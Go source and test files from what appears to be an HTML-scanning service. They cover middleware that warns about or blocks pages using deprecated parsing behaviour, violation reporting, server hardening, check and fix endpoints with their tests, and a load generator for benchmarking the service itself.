	return &Middleware{next: next, enforcer: enforcer, reporter: NewReporter(nil)}
}

// Reporter exposes the middleware's monitor reporter (to flush in tests).
func (m *Middleware) Reporter() *Reporter { return m.reporter }

type bufferingWriter struct {
	header http.Header
	status int
	body   bytes.Buffer
}

func (b *bufferingWriter) Header() http.Header { return b.header }
func (b *bufferingWriter) WriteHeader(s int)   { b.status = s }
func (b *bufferingWriter) Write(p []byte) (int, error) {
	if b.status == 0 {
		b.status = http.StatusOK
	}
	return b.body.Write(p)
}

// ServeHTTP implements http.Handler.
func (m *Middleware) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	bw := &bufferingWriter{header: make(http.Header)}
	m.next.ServeHTTP(bw, r)

	copyHeader(w.Header(), bw.header)
	ct := bw.header.Get("Content-Type")
	if !strings.HasPrefix(ct, "text/html") || bw.status != http.StatusOK {
		w.WriteHeader(statusOr200(bw.status))
		_, _ = w.Write(bw.body.Bytes())
		return
	}
	policy, err := ParsePolicy(bw.header.Get(HeaderName))
	if err != nil {
		// An unparseable policy fails closed to the default mode.
		policy = Policy{}
	}
	decision, err := m.enforcer.Evaluate(bw.body.Bytes(), policy)
	if err != nil {
		// Not UTF-8 decodable: out of scope, pass through.
		w.WriteHeader(statusOr200(bw.status))
		_, _ = w.Write(bw.body.Bytes())
		return
	}
	if policy.Monitor != "" && len(decision.Violations) > 0 {
		m.reporter.Report(policy.Monitor, r.URL.String(), decision)
	}
	// Stage 1 of the paper's rollout: before anything is enforced,
	// developers get a succinct, specific warning for each violation —
	// surfaced here as a response header the developer console can show.
	if len(decision.Violations) > 0 && !decision.Blocked() {
		w.Header().Set(WarningsHeader, strings.Join(violatedIDs(decision), ", "))
	}
	if decision.Blocked() {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.WriteHeader(http.StatusUnprocessableEntity)
		_, _ = w.Write(blockedPage(decision))
		return
	}
	w.WriteHeader(statusOr200(bw.status))
	_, _ = w.Write(bw.body.Bytes())
}

// WarningsHeader carries the rule IDs of unenforced violations, the
// deprecation-warning stage of the rollout (§5.3.2).
const WarningsHeader = "Strict-Parser-Warnings"

func violatedIDs(d *Decision) []string {
	ids := map[string]bool{}
	for _, f := range d.Violations {
		ids[f.RuleID] = true
	}
	out := make([]string, 0, len(ids))
	for id := range ids {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

func statusOr200(s int) int {
	if s == 0 {
		return http.StatusOK
	}
	return s
}

func copyHeader(dst, src http.Header) {
	for k, vs := range src {
		for _, v := range vs {
			dst.Add(k, v)
		}
	}
}

func blockedPage(d *Decision) []byte {
	var b bytes.Buffer
	b.WriteString("<!DOCTYPE html>\n<html lang=\"en\"><head><title>Blocked by STRICT-PARSER</title></head><body>\n")
	b.WriteString("<h1>Document blocked</h1>\n<p>This page violates deprecated HTML parsing behaviour (mode: ")
	b.WriteString(d.Policy.Mode.String())
	b.WriteString("):</p>\n<ul>\n")
	for _, id := range d.BlockedBy {
		b.WriteString("<li><code>" + id + "</code></li>\n")
	}
	b.WriteString("</ul>\n</body></html>\n")
	return b.Bytes()
}

// MonitorReport is the JSON document posted to a policy's monitor URL,
// shaped after CSP violation reports.
type MonitorReport struct {
	DocumentURL string    `json:"document_url"`
	Policy      string    `json:"policy"`
	Blocked     bool      `json:"blocked"`
	Violations  []string  `json:"violations"`
	Time        time.Time `json:"time"`
}

// Reporter delivers monitor reports asynchronously with bounded
// concurrency; failures are dropped (reporting must never break serving).
type Reporter struct {
	client *http.Client
	wg     sync.WaitGroup
	sem    chan struct{}
}

// NewReporter builds a reporter; client may be nil.
func NewReporter(client *http.Client) *Reporter {
	if client == nil {
		client = &http.Client{Timeout: 5 * time.Second}
	}
	return &Reporter{client: client, sem: make(chan struct{}, 8)}
}

// Report posts one violation report in the background.
func (r *Reporter) Report(monitorURL, documentURL string, d *Decision) {
	ids := map[string]bool{}
	for _, f := range d.Violations {
		ids[f.RuleID] = true
	}
	report := MonitorReport{
		DocumentURL: documentURL,
		Policy:      d.Policy.String(),
		Blocked:     d.Blocked(),
		Time:        time.Now().UTC(),
	}
	for id := range ids {
		report.Violations = append(report.Violations, id)
	}
	sort.Strings(report.Violations)
	body, err := json.Marshal(report)
	if err != nil {
		return
	}
	r.wg.Add(1)
	r.sem <- struct{}{}
	go func() {
		defer func() { <-r.sem; r.wg.Done() }()
		resp, err := r.client.Post(monitorURL, "application/json", bytes.NewReader(body))
		if err != nil {
			return
		}
		resp.Body.Close()
	}()
}

// Flush waits for in-flight reports (used by tests and shutdown paths).
func (r *Reporter) Flush() { r.wg.Wait() }
