package serve

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/hvscan/hvscan/internal/core"
)

// BenchmarkServeCheck measures the full request path — admission,
// pooled body read, check, JSON response — without network noise
// (in-process handler dispatch). Gated by hvbench against the
// BENCH_baseline.json trajectory like the parser benchmarks.
func BenchmarkServeCheck(b *testing.B) {
	s := New(Config{TenantRate: -1})
	body := Bodies(22, 1)[0]
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		req := httptest.NewRequest(http.MethodPost, "/v1/check", bytes.NewReader(body))
		w := httptest.NewRecorder()
		s.ServeHTTP(w, req)
		if w.Code != http.StatusOK {
			b.Fatalf("status = %d", w.Code)
		}
	}
}

// BenchmarkServeCheckStream is the same path on the constant-memory
// streaming checker — the deployment mode for high-QPS scanning.
func BenchmarkServeCheckStream(b *testing.B) {
	s := New(Config{TenantRate: -1, Checker: core.NewStreamingChecker()})
	body := Bodies(22, 1)[0]
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		req := httptest.NewRequest(http.MethodPost, "/v1/check", bytes.NewReader(body))
		w := httptest.NewRecorder()
		s.ServeHTTP(w, req)
		if w.Code != http.StatusOK {
			b.Fatalf("status = %d", w.Code)
		}
	}
}
