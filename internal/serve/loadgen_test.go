package serve

import (
	"context"
	"net/http"
	"testing"
	"time"
)

func TestBodiesDeterministic(t *testing.T) {
	a := Bodies(22, 8)
	b := Bodies(22, 8)
	if len(a) != 8 || len(b) != 8 {
		t.Fatalf("lengths: %d / %d, want 8", len(a), len(b))
	}
	for i := range a {
		if len(a[i]) == 0 {
			t.Fatalf("body %d is empty", i)
		}
		if string(a[i]) != string(b[i]) {
			t.Fatalf("body %d differs across identical seeds", i)
		}
	}
	if c := Bodies(23, 8); string(c[0]) == string(a[0]) {
		t.Fatal("different seeds rendered identical bodies")
	}
}

func TestLoadAgainstLiveServer(t *testing.T) {
	base, _, _ := startChaos(t, Config{TenantRate: -1})
	res, err := Load(context.Background(), LoadConfig{
		URL:         base + "/v1/check",
		QPS:         200,
		Concurrency: 4,
		Duration:    time.Second,
		Pages:       8,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests == 0 {
		t.Fatal("loadgen sent nothing")
	}
	if res.Status[http.StatusOK] == 0 {
		t.Fatalf("no 200s: %+v", res.Status)
	}
	if res.Errors != 0 {
		t.Fatalf("transport errors against a healthy server: %d", res.Errors)
	}
	if res.P50 <= 0 || res.P99 < res.P50 || res.Max < res.P99 {
		t.Fatalf("latency summary inconsistent: p50=%s p99=%s max=%s", res.P50, res.P99, res.Max)
	}
	if res.AchievedQPS <= 0 {
		t.Fatal("achieved QPS not computed")
	}
}

func TestLoadRequiresURL(t *testing.T) {
	if _, err := Load(context.Background(), LoadConfig{}); err == nil {
		t.Fatal("Load without a URL should fail")
	}
}
