package serve

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"time"
)

// Server-side hardening shared by every HTTP frontend in the repo
// (cmd/hvserve, cmd/ccserve): slowloris-resistant timeouts at
// construction and a graceful SIGTERM drain at teardown. Keeping both
// here means a new daemon cannot accidentally ship an unbounded
// listener.

// NewHTTPServer returns an http.Server over h with the hardening
// baseline applied:
//
//   - ReadHeaderTimeout bounds the slowloris window before a handler
//     even runs (body reads are bounded per-handler, see readBody);
//   - IdleTimeout reaps parked keep-alive connections;
//   - MaxHeaderBytes caps header memory per connection.
func NewHTTPServer(addr string, h http.Handler) *http.Server {
	return &http.Server{
		Addr:              addr,
		Handler:           h,
		ReadHeaderTimeout: 5 * time.Second,
		IdleTimeout:       2 * time.Minute,
		MaxHeaderBytes:    64 << 10,
	}
}

// Run serves srv until ctx is canceled, then drains gracefully: stop
// accepting, let in-flight requests finish for up to drainTimeout, and
// only then hard-close. onDrain (may be nil) runs at the start of the
// drain — wire it to Server.BeginDrain so readyz flips before the
// listener closes. A non-positive drainTimeout defaults to 30s.
func Run(ctx context.Context, srv *http.Server, drainTimeout time.Duration, onDrain func()) error {
	ln, err := net.Listen("tcp", srv.Addr)
	if err != nil {
		return fmt.Errorf("serve: listen %s: %w", srv.Addr, err)
	}
	return RunListener(ctx, srv, ln, drainTimeout, onDrain)
}

// RunListener is Run over an existing listener (tests bind :0 and need
// the resolved address before serving starts). It owns ln.
func RunListener(ctx context.Context, srv *http.Server, ln net.Listener, drainTimeout time.Duration, onDrain func()) error {
	if drainTimeout <= 0 {
		drainTimeout = 30 * time.Second
	}
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()
	select {
	case err := <-errc:
		// The listener died on its own (port stolen, fd limit): that is
		// a failure, not a drain.
		return fmt.Errorf("serve: listener failed: %w", err)
	case <-ctx.Done():
	}
	if onDrain != nil {
		onDrain()
	}
	// ctx is already done; the drain needs its own budget, detached
	// from the trigger but still carrying its values.
	sctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), drainTimeout)
	defer cancel()
	if err := srv.Shutdown(sctx); err != nil {
		_ = srv.Close()
		return fmt.Errorf("serve: drain incomplete after %s: %w", drainTimeout, err)
	}
	return nil
}

// IsExpectedClose reports whether err is the normal outcome of a
// triggered shutdown rather than a serving failure — what a main
// should treat as exit code 0.
func IsExpectedClose(err error) bool {
	return err == nil || errors.Is(err, http.ErrServerClosed)
}
