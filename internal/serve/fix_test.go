package serve

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// Documents with a known repair verdict, mirroring the engine's own
// corpus: a missing-whitespace fix (FB1), a clean page, an unverifiable
// manifest+base interaction, and a strategy-free DE3_2 remainder.
const (
	fixableHTML   = `<!DOCTYPE html><html><head><title>t</title></head><body><a href="/x"title="t">x</a></body></html>`
	cleanHTML     = `<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`
	unfixableHTML = `<!DOCTYPE html><html manifest="app.appcache"><head><base href="/b/"><title>t</title></head><body>x</body></html>`
	partialHTML   = `<!DOCTYPE html><html><head><title>t</title></head><body><img src="/i.png" alt="x<script n"></body></html>`
)

func postFix(t *testing.T, h http.Handler, body string, hdr map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodPost, "/v1/fix", strings.NewReader(body))
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, req)
	return w
}

func decodeFix(t *testing.T, w *httptest.ResponseRecorder) *FixResponse {
	t.Helper()
	var resp FixResponse
	if err := json.NewDecoder(w.Body).Decode(&resp); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return &resp
}

func TestFixEndpointRepairsDocument(t *testing.T) {
	s := New(Config{})
	w := postFix(t, s, fixableHTML, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	resp := decodeFix(t, w)
	if resp.Outcome != "fixed" {
		t.Fatalf("outcome = %q, want fixed", resp.Outcome)
	}
	if len(resp.Applied) == 0 {
		t.Fatal("fixed outcome with empty applied list")
	}
	if !strings.Contains(resp.HTML, `href="/x" title="t"`) {
		t.Fatalf("repaired HTML missing the separated attributes: %s", resp.HTML)
	}
	if len(resp.RemainingHits) != 0 {
		t.Fatalf("fixed outcome with remaining hits %v", resp.RemainingHits)
	}
	if resp.Rounds < 1 {
		t.Fatalf("fixed outcome after %d rounds", resp.Rounds)
	}
	if resp.Bytes != len(resp.HTML) {
		t.Fatalf("bytes = %d, html length %d", resp.Bytes, len(resp.HTML))
	}
	// The repaired document must itself check clean.
	cw := post(t, s, resp.HTML, nil)
	if cw.Code != http.StatusOK {
		t.Fatalf("re-check status = %d", cw.Code)
	}
	if cr := decodeCheck(t, cw); len(cr.Violations) != 0 {
		t.Fatalf("repaired document still violates: %v", cr.Violations)
	}
	if got := s.fixReqs["fixed"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=fixed} = %d, want 1", got)
	}
	if got := s.fixLatency.Count(); got != 1 {
		t.Fatalf("serve_fix_seconds count = %d, want 1", got)
	}
}

func TestFixEndpointCleanNoOp(t *testing.T) {
	s := New(Config{})
	w := postFix(t, s, cleanHTML, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	resp := decodeFix(t, w)
	if resp.Outcome != "clean" {
		t.Fatalf("outcome = %q, want clean", resp.Outcome)
	}
	if resp.HTML != cleanHTML {
		t.Fatalf("clean outcome altered the document: %s", resp.HTML)
	}
	if len(resp.Applied) != 0 || resp.Rounds != 0 {
		t.Fatalf("clean outcome with applied=%v rounds=%d", resp.Applied, resp.Rounds)
	}
	if got := s.fixReqs["clean"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=clean} = %d, want 1", got)
	}
}

func TestFixEndpointUnfixableReturnsOriginal(t *testing.T) {
	s := New(Config{})
	w := postFix(t, s, unfixableHTML, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	resp := decodeFix(t, w)
	if resp.Outcome != "unfixable" {
		t.Fatalf("outcome = %q, want unfixable", resp.Outcome)
	}
	// The verification contract: never emit unverified output.
	if resp.HTML != unfixableHTML {
		t.Fatalf("unfixable outcome did not return the input byte for byte:\n%s", resp.HTML)
	}
	if len(resp.Unfixable) == 0 {
		t.Fatal("unfixable outcome without a reason list")
	}
	if len(resp.Applied) != 0 {
		t.Fatalf("unfixable outcome with applied fixes %v", resp.Applied)
	}
	if got := s.fixReqs["unfixable"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=unfixable} = %d, want 1", got)
	}
}

func TestFixEndpointPartialKeepsRemainder(t *testing.T) {
	s := New(Config{})
	w := postFix(t, s, partialHTML, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	resp := decodeFix(t, w)
	if resp.Outcome != "partial" {
		t.Fatalf("outcome = %q, want partial", resp.Outcome)
	}
	if resp.RemainingHits["DE3_2"] == 0 {
		t.Fatalf("partial outcome without the DE3_2 remainder: %v", resp.RemainingHits)
	}
	if got := s.fixReqs["partial"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=partial} = %d, want 1", got)
	}
}

func TestFixEndpointNotUTF8(t *testing.T) {
	s := New(Config{})
	w := postFix(t, s, "<p>\xff\xfe broken</p>", nil)
	if w.Code != http.StatusUnsupportedMediaType {
		t.Fatalf("status = %d, want 415; body %s", w.Code, w.Body)
	}
	if got := s.fixReqs["error"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=error} = %d, want 1", got)
	}
}

func TestFixEndpointDepthCap(t *testing.T) {
	s := New(Config{MaxTreeDepth: 64})
	w := postFix(t, s, strings.Repeat("<div>", 5000), nil)
	if w.Code != http.StatusUnprocessableEntity {
		t.Fatalf("status = %d, want 422; body %s", w.Code, w.Body)
	}
	if got := s.fixReqs["error"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=error} = %d, want 1", got)
	}
	// The aborted parse must not poison the pooled parser.
	if w := postFix(t, s, cleanHTML, nil); w.Code != http.StatusOK {
		t.Fatalf("shallow doc after deep abort: status %d", w.Code)
	}
}

func TestFixEndpointShedsWhileDraining(t *testing.T) {
	s := New(Config{})
	s.BeginDrain()
	w := postFix(t, s, fixableHTML, nil)
	if w.Code != http.StatusServiceUnavailable {
		t.Fatalf("status = %d, want 503", w.Code)
	}
	if w.Header().Get("Retry-After") == "" {
		t.Fatal("shed without a Retry-After header")
	}
	if got := s.fixReqs["error"].Value(); got != 1 {
		t.Fatalf("serve_fix_requests_total{outcome=error} = %d, want 1", got)
	}
}

func TestFixEndpointTenantThrottled(t *testing.T) {
	s := New(Config{TenantRate: 0.001, TenantBurst: 1})
	hdr := map[string]string{"X-Tenant": "a"}
	if w := postFix(t, s, cleanHTML, hdr); w.Code != http.StatusOK {
		t.Fatalf("first request: status %d", w.Code)
	}
	w := postFix(t, s, cleanHTML, hdr)
	if w.Code != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429", w.Code)
	}
}
