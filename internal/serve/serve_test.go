package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/resilience"
)

// violatingHTML trips both a streaming rule (duplicate attribute) and
// the newline-in-URL signal.
const violatingHTML = "<!DOCTYPE html><p id=a id=b>x</p><img src=\"a\nb<c\">"

func post(t *testing.T, h http.Handler, body string, hdr map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodPost, "/v1/check", strings.NewReader(body))
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, req)
	return w
}

func decodeCheck(t *testing.T, w *httptest.ResponseRecorder) *CheckResponse {
	t.Helper()
	var resp CheckResponse
	if err := json.NewDecoder(w.Body).Decode(&resp); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return &resp
}

func TestCheckEndpointReportsViolations(t *testing.T) {
	s := New(Config{})
	w := post(t, s, violatingHTML, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	resp := decodeCheck(t, w)
	if resp.Mode != "tree" {
		t.Fatalf("full catalogue should use tree mode, got %q", resp.Mode)
	}
	if len(resp.Violations) == 0 {
		t.Fatal("expected violations for a duplicate-attribute document")
	}
	if !resp.Signals.NewlineInURL {
		t.Fatal("expected the newline-in-URL signal")
	}
	if resp.Bytes != len(violatingHTML) {
		t.Fatalf("bytes = %d, want %d", resp.Bytes, len(violatingHTML))
	}
}

func TestCheckEndpointStreamMode(t *testing.T) {
	s := New(Config{Checker: core.NewStreamingChecker()})
	w := post(t, s, violatingHTML, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	if resp := decodeCheck(t, w); resp.Mode != "stream" {
		t.Fatalf("mode = %q, want stream", resp.Mode)
	}
}

func TestCheckEndpointMethodNotAllowed(t *testing.T) {
	s := New(Config{})
	req := httptest.NewRequest(http.MethodGet, "/v1/check", nil)
	w := httptest.NewRecorder()
	s.ServeHTTP(w, req)
	if w.Code != http.StatusMethodNotAllowed {
		t.Fatalf("status = %d, want 405", w.Code)
	}
}

func TestCheckEndpointBodyTooLarge(t *testing.T) {
	s := New(Config{MaxBodyBytes: 1024})
	w := post(t, s, strings.Repeat("x", 4096), nil)
	if w.Code != http.StatusRequestEntityTooLarge {
		t.Fatalf("status = %d, want 413", w.Code)
	}
}

func TestCheckEndpointNotUTF8(t *testing.T) {
	s := New(Config{})
	w := post(t, s, "<p>\xff\xfe broken</p>", nil)
	if w.Code != http.StatusUnsupportedMediaType {
		t.Fatalf("status = %d, want 415; body %s", w.Code, w.Body)
	}
}

func TestCheckEndpointDepthCap(t *testing.T) {
	s := New(Config{MaxTreeDepth: 64})
	w := post(t, s, strings.Repeat("<div>", 5000), nil)
	if w.Code != http.StatusUnprocessableEntity {
		t.Fatalf("status = %d, want 422; body %s", w.Code, w.Body)
	}
	// The aborted parse must not poison the pooled parser.
	if w := post(t, s, "<p>ok</p>", nil); w.Code != http.StatusOK {
		t.Fatalf("shallow doc after deep abort: status %d", w.Code)
	}
}

func TestTenantThrottling(t *testing.T) {
	s := New(Config{TenantRate: 0.001, TenantBurst: 2})
	hdrA := map[string]string{"X-Tenant": "a"}
	for i := 0; i < 2; i++ {
		if w := post(t, s, "<p>ok</p>", hdrA); w.Code != http.StatusOK {
			t.Fatalf("request %d: status %d", i, w.Code)
		}
	}
	w := post(t, s, "<p>ok</p>", hdrA)
	if w.Code != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429", w.Code)
	}
	if w.Header().Get("Retry-After") == "" {
		t.Fatal("429 without a Retry-After header")
	}
	var resp ErrorResponse
	if err := json.NewDecoder(w.Body).Decode(&resp); err != nil || resp.RetryAfterSeconds < 1 {
		t.Fatalf("429 body lacks retry_after_seconds: %+v err=%v", resp, err)
	}
	// Another tenant's bucket is untouched.
	if w := post(t, s, "<p>ok</p>", map[string]string{"X-Tenant": "b"}); w.Code != http.StatusOK {
		t.Fatalf("tenant b throttled by tenant a's debt: status %d", w.Code)
	}
}

func TestDrainGate(t *testing.T) {
	s := New(Config{})
	get := func(path string) int {
		w := httptest.NewRecorder()
		s.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
		return w.Code
	}
	if c := get("/readyz"); c != http.StatusOK {
		t.Fatalf("readyz before drain: %d", c)
	}
	s.BeginDrain()
	if c := get("/readyz"); c != http.StatusServiceUnavailable {
		t.Fatalf("readyz while draining: %d, want 503", c)
	}
	if c := get("/healthz"); c != http.StatusOK {
		t.Fatalf("healthz while draining: %d, want 200 (process is alive)", c)
	}
	w := post(t, s, "<p>ok</p>", nil)
	if w.Code != http.StatusServiceUnavailable {
		t.Fatalf("check while draining: %d, want 503", w.Code)
	}
	if w.Header().Get("Retry-After") == "" {
		t.Fatal("drain shed without Retry-After")
	}
}

func TestPanicIsolation(t *testing.T) {
	bomb := core.Rule{
		ID:    "TEST_BOMB",
		Name:  "panics on marked documents",
		Check: func(p *core.Page) []core.Finding { return nil },
		Stream: func() core.RuleStream {
			return core.RuleStream{Token: func(tok *htmlparse.Token, emit func(core.Finding)) {
				if tok.Data == "boom" {
					panic("rule exploded")
				}
			}}
		},
	}
	s := New(Config{Checker: core.NewCheckerWith(bomb)})
	w := post(t, s, "<boom></boom>", nil)
	if w.Code != http.StatusInternalServerError {
		t.Fatalf("panicking check: status %d, want 500", w.Code)
	}
	// The panic was confined to that request: the worker slot was
	// released and the next request succeeds.
	if w := post(t, s, "<p>ok</p>", nil); w.Code != http.StatusOK {
		t.Fatalf("request after panic: status %d, want 200", w.Code)
	}
	if s.InFlight() != 0 {
		t.Fatalf("in-flight after panic = %d, want 0", s.InFlight())
	}
	if got := s.panics.Value(); got != 1 {
		t.Fatalf("serve_panics_total = %d, want 1", got)
	}
}

func TestMetricsExposition(t *testing.T) {
	s := New(Config{})
	post(t, s, violatingHTML, nil)
	w := httptest.NewRecorder()
	s.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	if w.Code != http.StatusOK {
		t.Fatalf("metrics status = %d", w.Code)
	}
	body, _ := io.ReadAll(w.Body)
	for _, want := range []string{"serve_requests_total", "serve_request_seconds", "serve_body_bytes"} {
		if !bytes.Contains(body, []byte(want)) {
			t.Fatalf("metrics exposition missing %s:\n%s", want, body)
		}
	}
}

func TestArchiveCheckEndpoint(t *testing.T) {
	g := corpus.New(corpus.Config{Seed: 7, Domains: 64, MaxPages: 4})
	s := New(Config{Archive: commoncrawl.NewSynthetic(g)})
	// Pick a domain that actually has captures in the default (latest)
	// snapshot — presence churns per crawl in the synthetic corpus.
	snap := corpus.Snapshots[len(corpus.Snapshots)-1]
	var domain string
	for _, d := range g.Universe() {
		if g.Present(d, snap) && g.Succeeds(d, snap) && g.PageCount(d, snap) > 0 {
			domain = d
			break
		}
	}
	if domain == "" {
		t.Fatal("no live domain in the synthetic corpus")
	}
	req := httptest.NewRequest(http.MethodGet, "/v1/archive-check?domain="+domain+"&limit=3", nil)
	w := httptest.NewRecorder()
	s.ServeHTTP(w, req)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	var resp ArchiveCheckResponse
	if err := json.NewDecoder(w.Body).Decode(&resp); err != nil {
		t.Fatal(err)
	}
	if resp.Domain != domain || len(resp.Pages) == 0 {
		t.Fatalf("unexpected response: %+v", resp)
	}
}

func TestArchiveCheckNoArchive(t *testing.T) {
	s := New(Config{})
	w := httptest.NewRecorder()
	s.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/v1/archive-check?domain=x", nil))
	if w.Code != http.StatusNotFound {
		t.Fatalf("status = %d, want 404", w.Code)
	}
}

// failingArchive is a backend whose Query always fails retryably —
// the shape of a sick disk or a flapping network.
type failingArchive struct{}

func (failingArchive) Crawls() []string { return []string{"CC-TEST-2022"} }
func (failingArchive) Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	return nil, resilience.Retryable(errArchiveDown)
}
func (failingArchive) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	return nil, resilience.Retryable(errArchiveDown)
}

var errArchiveDown = errors.New("archive backend down")

func TestArchiveCheckBreakerOpens(t *testing.T) {
	s := New(Config{
		Archive: failingArchive{},
		Breaker: resilience.BreakerConfig{FailureThreshold: 3, Cooldown: time.Hour},
	})
	get := func() int {
		w := httptest.NewRecorder()
		s.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/v1/archive-check?domain=x", nil))
		return w.Code
	}
	for i := 0; i < 3; i++ {
		if c := get(); c != http.StatusBadGateway {
			t.Fatalf("request %d: status %d, want 502", i, c)
		}
	}
	// The breaker tripped: subsequent requests shed without touching
	// the backend.
	if c := get(); c != http.StatusServiceUnavailable {
		t.Fatalf("post-trip status = %d, want 503", c)
	}
}
