package serve

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/resilience"
)

// Load generation against a running hvserve, reusing the calibrated
// synthetic corpus as the body source so the offered documents have
// realistic size and violation mix — the same pages the batch pipeline
// measures. Both `hvserve -loadgen` and the chaos acceptance suite
// drive this; EXPERIMENTS.md's latency-vs-QPS curve is its output.

// errMissingURL: a Load call without a target is a programming error,
// not a runtime condition — classified fatal so retry loops never
// chew on it.
var errMissingURL = errors.New("serve: loadgen needs a target URL")

// LoadConfig tunes one load run.
type LoadConfig struct {
	// URL is the check endpoint, e.g. "http://127.0.0.1:8811/v1/check".
	URL string
	// QPS is the aggregate offered rate; 0 means closed-loop (each
	// worker fires as soon as its previous request completes).
	QPS float64
	// Concurrency is the worker count (default 8).
	Concurrency int
	// Duration bounds the run (default 5s).
	Duration time.Duration
	// Seed and Pages pick the corpus bodies (defaults 22 and 64).
	Seed  int64
	Pages int
	// Tenant is the X-Tenant header (default "loadgen").
	Tenant string
	// Client overrides the HTTP client (tests inject one bound to an
	// in-process listener).
	Client *http.Client
}

// LoadResult summarizes one load run.
type LoadResult struct {
	Requests int
	// Status counts responses by HTTP status; Shed is the 429+503
	// subtotal (the server degrading as designed).
	Status map[int]int
	Shed   int
	// Errors counts transport-level failures (refused, reset).
	Errors    int
	BytesSent int64
	Elapsed   time.Duration
	// AchievedQPS counts completed responses (any status) per second.
	AchievedQPS              float64
	Mean, P50, P95, P99, Max time.Duration
}

// Bodies renders n distinct corpus pages for load generation. Exported
// so the chaos tests and the CLI share one body source.
func Bodies(seed int64, n int) [][]byte {
	if n < 1 {
		n = 1
	}
	g := corpus.New(corpus.Config{Seed: seed, Domains: max(n, 64), MaxPages: 4})
	snap := corpus.Snapshots[len(corpus.Snapshots)-1]
	out := make([][]byte, 0, n)
	for _, d := range g.Universe() {
		out = append(out, g.PageHTML(d, snap, 0))
		if len(out) == n {
			break
		}
	}
	return out
}

// Load offers traffic at cfg's rate until the duration elapses or ctx
// ends, and returns the latency/status summary. Pacing is open-loop
// when QPS is set: the request schedule is fixed in advance and shared
// by all workers, so a slow server faces mounting concurrency (up to
// Concurrency) instead of a conveniently self-throttling client — the
// honest way to measure an overloaded service.
func Load(ctx context.Context, cfg LoadConfig) (*LoadResult, error) {
	if cfg.URL == "" {
		return nil, fmt.Errorf("serve: loadgen: %w", resilience.Fatal(errMissingURL))
	}
	if cfg.Concurrency <= 0 {
		cfg.Concurrency = 8
	}
	if cfg.Duration <= 0 {
		cfg.Duration = 5 * time.Second
	}
	if cfg.Seed == 0 {
		cfg.Seed = 22
	}
	if cfg.Pages <= 0 {
		cfg.Pages = 64
	}
	if cfg.Tenant == "" {
		cfg.Tenant = "loadgen"
	}
	client := cfg.Client
	if client == nil {
		tr := http.DefaultTransport.(*http.Transport).Clone()
		tr.MaxIdleConnsPerHost = cfg.Concurrency
		client = &http.Client{Transport: tr}
	}
	bodies := Bodies(cfg.Seed, cfg.Pages)

	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	start := time.Now()
	var seq atomic.Int64
	var mu sync.Mutex
	res := &LoadResult{Status: make(map[int]int)}
	var lats []time.Duration
	var wg sync.WaitGroup
	for w := 0; w < cfg.Concurrency; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				n := seq.Add(1) - 1
				if cfg.QPS > 0 {
					target := start.Add(time.Duration(float64(n) / cfg.QPS * float64(time.Second)))
					if d := time.Until(target); d > 0 && !resilience.Sleep(ctx, d) {
						return
					}
				}
				body := bodies[int(n)%len(bodies)]
				t0 := time.Now()
